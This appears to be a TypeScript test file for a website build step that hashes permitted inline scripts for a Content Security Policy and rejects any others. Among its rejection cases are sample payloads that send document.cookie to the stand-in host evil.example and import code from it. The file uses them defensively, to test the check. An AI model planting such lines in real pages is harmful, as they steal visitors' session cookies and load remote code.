import { createHash } from "node:crypto";
import { mkdtempSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { speculationRulesText } from "../core/html/inline-scripts.ts";
import { DisallowedInlineScriptError, builtInlineScripts, inlineScriptAllowList, pageCspSources } from "./page-csp-sources.ts";

const sha = (text: string) => `sha256-${createHash("sha256").update(text).digest("base64")}`;

/** The head's script as the build wrote it: any text will do, the CSP knows it only by its exact text. */
const head = '(function(){document.documentElement.dataset.disclaimer="pending"})();';
const allowed = inlineScriptAllowList([head]);

describe("pageCspSources", () => {
  it("hashes the build's own inline scripts, once each, and skips external scripts and data", () => {
    const html = `<script>${head}</script><script type="speculationrules">${speculationRulesText}</script><script type="module" src="/assets/site-abc.js"></script><script type="application/ld+json">{"@type":"LegalService"}</script><script type="application/json">{"a":1}</script><script>${head}</script>`;
    // Speculation rules are governed by CSP's script-src too, so they are hashed with the rest.
    expect(pageCspSources(html, "index.html", allowed).scriptHashes).toEqual([sha(head), sha(speculationRulesText)]);
  });

  it("hashes a page's bytes read as Latin-1 like the same page decoded", () => {
    const hindi = "(function(){document.title='न्यायालय ₹'})();";
    const list = inlineScriptAllowList([hindi]);
    const html = `<p>शुल्क</p><script>${hindi}</script>`;
    const asLatin1 = Buffer.from(html).toString("latin1");
    expect(pageCspSources(asLatin1, "hi/index.html", list, "latin1")).toEqual(pageCspSources(html, "hi/index.html", list));
  });

  it.each([
    ["a script of unknown origin", "<script>fetch('https://evil.example/?c='+document.cookie)</script>"],
    ["a module script of unknown origin", '<script type="module">import "https://evil.example/x.js"</script>'],
    ["an analytics snippet", "<script>(function(i,s,o,g,r,a,m){})(window)</script>"],
    // The old allow-list let in any script that began like the site's own: now only the exact text is.
    ["a script that begins with the old behaviours' marker", "<script>/* page behaviour */fetch('/x')</script>"],
    ["a script that begins like React's streaming runtime", "<script>$RC('B:0','S:0');fetch('/x')</script>"],
    ["the head's script with one character more", `<script>${head};</script>`],
    [
      "speculation rules that are not the site's",
      '<script type="speculationrules">{"prerender":[{"where":{"href_matches":"/*"}}]}</script>',
    ],
  ])("refuses %s, naming the page", (_name, html) => {
    expect(() => pageCspSources(`<p>hi</p>${html}`, "publications/3/index.html", allowed)).toThrow(DisallowedInlineScriptError);
    expect(() => pageCspSources(html, "publications/3/index.html", allowed)).toThrow(/^publications\/3\/index\.html has an inline script/);
  });

  it("reads the build's record of its inline scripts; without one only the speculation rules are allowed", () => {
    const dir = mkdtempSync(join(tmpdir(), "inline-scripts-"));
    const record = join(dir, "inline-scripts.json");
    writeFileSync(record, JSON.stringify({ "app/browser/head.ts": head }));
    expect(builtInlineScripts(record)).toEqual(new Set([sha(head), sha(speculationRulesText)]));
    expect(builtInlineScripts(join(dir, "missing.json"))).toEqual(new Set([sha(speculationRulesText)]));
  });
});
